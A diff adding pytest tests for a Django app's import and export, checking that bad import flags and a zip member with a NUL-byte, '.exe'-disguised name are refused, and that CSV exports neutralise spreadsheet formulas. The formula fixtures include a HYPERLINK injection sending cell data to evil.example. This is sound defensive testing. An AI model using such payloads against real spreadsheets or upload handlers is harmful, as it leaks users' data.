@@ -3,6 +3,7 @@ the admin scope and role as for the JSON import, and export → import round tri
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import time
@@ -231,3 +232,61 @@ def test_an_upload_over_the_size_limit_is_refused_by_the_api_the_page_and_the_se
     with pytest.raises(ValidationError, match="larger than 20 bytes"):
         services.import_upload(project=cast.project, format="csv", name="big.csv", data=data.encode())
     assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()
+
+
+@pytest.mark.parametrize("param", ["dry_run", "prune"])
+@pytest.mark.parametrize("value", ["", "maybe"])
+def test_an_empty_or_unknown_import_flag_is_refused_naming_it_and_queues_nothing(admin, param, value):
+    response = upload(admin, "facts.csv", csv_rows(2), **{param: value})
+    assert response.status_code == 400 and param in response.json()
+    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()
+
+
+def test_a_zip_member_whose_name_holds_a_nul_is_refused_naming_it_and_writes_nothing(admin):
+    data = zipped({"notes/a.md": "# A\n\nFine.\n", "notes/b.md#.exe": "# B\n\nHidden.\n"})
+    data = data.replace(b"b.md#.exe", b"b.md\x00.exe")
+    for dry_run in ("1", "0"):
+        response = upload(admin, "vault.zip", data, dry_run=dry_run)
+        assert response.status_code == 400, response.content
+        assert "b.md\\x00.exe" in response.json()["file"][0]
+    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()
+
+
+FORMULAS = [
+    {"title": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "content": "+1+2", "tags": ["-ops", "@team"]},
+    {"title": "@SUM(A1:A9)", "content": "-2+3 is a cell a spreadsheet would run", "tags": ["billing"]},
+    {"title": "Tabbed", "content": "\t=1+1 starts with a tab", "tags": []},
+    {"title": "Returned", "content": "\r=1+1 starts with a carriage return", "tags": []},
+    {"title": "'Quoted already", "content": "'=1+1 a quote then a formula", "tags": ["'q"]},
+    {"title": "Plain", "content": "Nothing to neutralise = here.", "tags": ["ops"]},
+]
+
+
+def test_a_csv_export_holds_no_formula_a_spreadsheet_runs_and_imports_back_unchanged(cast, eager_jobs):
+    client = api_client_for(cast.owner)
+    services.items_import(records=enumerate(FORMULAS, 1), default_project=cast.project, projects_by_slug={})
+    data = b"".join(client.get("/api/v1/items/export/?project=acme&format=csv").streaming_content)
+    sheet = list(csv.reader(io.StringIO(data.decode(), newline="")))
+    cells = [cell for row in sheet[1:] for cell in row]
+    assert len(sheet) == len(FORMULAS) + 1
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(" in data.decode() and "'+1+2" in data.decode() and "'-ops;@team" in data.decode()
+    project_create(name="Empty", slug="empty", owner=cast.owner)
+    with eager_jobs(execute=True):
+        response = client.post(
+            "/api/v1/imports/?project=empty&format=csv",
+            {"file": SimpleUploadedFile("x.csv", data)},
+            format="multipart",
+        )
+    job = client.get(f"/api/v1/imports/{response.json()['id']}/").json()
+    assert job["status"] == "done" and job["result"]["created"] == len(FORMULAS), job
+    assert as_rows(Project.objects.get(slug="empty")) == as_rows(cast.project)
+
+
+def test_a_hand_made_csv_without_the_export_column_keeps_its_leading_quotes(cast):
+    report = services.import_upload(
+        project=cast.project, format="csv", name="mine.csv", data=b"title,content\n'=1,'+2\n", dry_run=False
+    )
+    assert report.created == 1
+    item = KnowledgeItem.objects.get()
+    assert (item.title, item.content) == ("'=1", "'+2")
